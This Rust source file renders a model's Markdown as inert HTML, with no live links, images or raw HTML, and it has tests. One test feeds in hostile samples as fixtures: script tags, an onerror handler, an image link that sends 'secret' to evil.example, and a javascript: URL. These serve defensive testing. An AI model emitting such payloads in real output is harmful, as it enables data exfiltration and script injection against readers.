//! Markdown of a model as HTML that does nothing: no HTML of the model's, no image, no live link.
//!
//! A link isn't live even if its address is `https:`. The address may carry text of the record to a server of the model's
//! choice, and a reader can't see that from the words of the link. The address is shown, so that it can be copied.

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};

use super::escape::escape;

/// The deepest nesting of lists, quotes and emphasis. Deeper ones lose their tags, not their text.
const MAX_DEPTH: usize = 24;

/// Renders a text.
pub(super) fn render(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut page = Page::default();
    Parser::new_ext(markdown, options).for_each(|event| page.add(event));
    page.html
}

#[derive(Default)]
struct Page {
    html: String,
    /// What closes each open element.
    open: Vec<&'static str>,
    /// The address of each open link or image, and where its text begins.
    targets: Vec<(String, usize)>,
    in_table_head: bool,
}

impl Page {
    fn add(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => self.html += &escape(&text),
            Event::Code(text) | Event::InlineMath(text) | Event::DisplayMath(text) => {
                self.html += &format!("<code>{}</code>", escape(&text));
            }
            Event::FootnoteReference(name) => self.html += &format!("[^{}]", escape(&name)),
            Event::SoftBreak => self.html.push('\n'),
            Event::HardBreak => self.html += "<br>",
            Event::Rule => self.html += "<hr>",
            Event::TaskListMarker(done) => self.html += if done { "☑ " } else { "☐ " },
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        let (begin, end) = match tag {
            Tag::Paragraph => ("<p>", "</p>"),
            // The headings of the page are its own.
            Tag::Heading { .. } => ("<p class=\"heading\">", "</p>"),
            Tag::BlockQuote(_) => ("<blockquote>", "</blockquote>"),
            Tag::CodeBlock(kind) => {
                let language = match &kind {
                    CodeBlockKind::Fenced(language) => language.split([' ', ',']).next().unwrap_or_default(),
                    CodeBlockKind::Indented => "",
                };
                if !language.is_empty() {
                    self.html += &format!("<span class=\"lang\">{}</span>", escape(language));
                }
                ("<pre>", "</pre>")
            }
            Tag::List(Some(1)) => ("<ol>", "</ol>"),
            Tag::List(Some(first)) if self.open.len() < MAX_DEPTH => {
                self.html += &format!("<ol start=\"{first}\">");
                self.open.push("</ol>");
                return;
            }
            Tag::List(_) => ("<ul>", "</ul>"),
            Tag::Item => ("<li>", "</li>"),
            Tag::Table(_) => ("<table>", "</table>"),
            Tag::TableHead => {
                self.in_table_head = true;
                ("<tr>", "</tr>")
            }
            Tag::TableRow => ("<tr>", "</tr>"),
            Tag::TableCell if self.in_table_head => ("<th>", "</th>"),
            Tag::TableCell => ("<td>", "</td>"),
            Tag::Emphasis => ("<em>", "</em>"),
            Tag::Strong => ("<strong>", "</strong>"),
            Tag::Strikethrough => ("<s>", "</s>"),
            Tag::Link { dest_url, .. } => {
                self.targets.push((dest_url.into_string(), self.html.len()));
                return;
            }
            Tag::Image { dest_url, .. } => {
                self.html += "[image: ";
                self.targets.push((dest_url.into_string(), self.html.len()));
                return;
            }
            _ => ("", ""),
        };
        if self.open.len() < MAX_DEPTH {
            self.html += begin;
            self.open.push(end);
        } else {
            self.open.push("");
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::Link | TagEnd::Image => {
                let (address, begins) = self.targets.pop().unwrap_or_default();
                let address = escape(&address);
                let text = self.html.get(begins..).unwrap_or_default();
                let is_shown = text == address || format!("mailto:{text}") == address;
                if !is_shown {
                    self.html += &format!(" <span class=\"url\">({address})</span>");
                }
                if tag == TagEnd::Image {
                    self.html.push(']');
                }
            }
            _ => {
                if tag == TagEnd::TableHead {
                    self.in_table_head = false;
                }
                self.html += self.open.pop().unwrap_or_default();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn structure_is_kept() {
        let html = render(
            "# A\n\n1. *b*\n2. **c** `d<e`\n\n> f\n\n```rust\nlet g = \"<h>\";\n```\n\n| i | j |\n|---|---|\n| k | ~~l~~ |\n\n- [x] m\n",
        );
        for part in [
            "<p class=\"heading\">A</p>",
            "<ol><li><em>b</em></li><li><strong>c</strong> <code>d&lt;e</code></li></ol>",
            "<blockquote><p>f</p></blockquote>",
            "<span class=\"lang\">rust</span><pre>let g = &quot;&lt;h&gt;&quot;;\n</pre>",
            "<table><tr><th>i</th><th>j</th></tr><tr><td>k</td><td><s>l</s></td></tr></table>",
            "<ul><li>☑ m</li></ul>",
        ] {
            assert!(html.contains(part), "{part}\n{html}");
        }
    }

    #[test]
    fn nothing_is_live() {
        let hostile = "a <script>a()</script> <img src=x onerror=a()> ![pixel](https://evil.example/?q=secret) \
            [click](javascript:alert(1)) <https://a.example/\"onclick=\"b> [ref] <!-- \n\n[ref]: http://c.example 'title'\n\n<div>\n<style>";
        let html = render(hostile);
        for live in ["<script", "<img", "<a", "<div", "<style", "<!--", "href", "src=\"", "\"onclick"] {
            assert!(!html.contains(live), "{live}\n{html}");
        }
        for shown in
            ["[image: pixel <span class=\"url\">(https://evil.example/?q=secret)</span>]", "(javascript:alert(1))"]
        {
            assert!(html.contains(shown), "{shown}\n{html}");
        }
        assert!(html.contains("ref <span class=\"url\">(http://c.example)</span>"), "{html}");
    }

    #[test]
    fn deep_nesting_is_flat_and_balanced() {
        let html = render(&format!("{} end\n\n{}x", "> ".repeat(2_000), "*_".repeat(500)));
        assert!(html.matches("<blockquote>").count() <= MAX_DEPTH && html.contains("end"), "{html}");
        for tag in ["blockquote", "p", "em", "strong"] {
            assert_eq!(html.matches(&format!("<{tag}>")).count(), html.matches(&format!("</{tag}>")).count(), "{tag}");
        }
    }
}
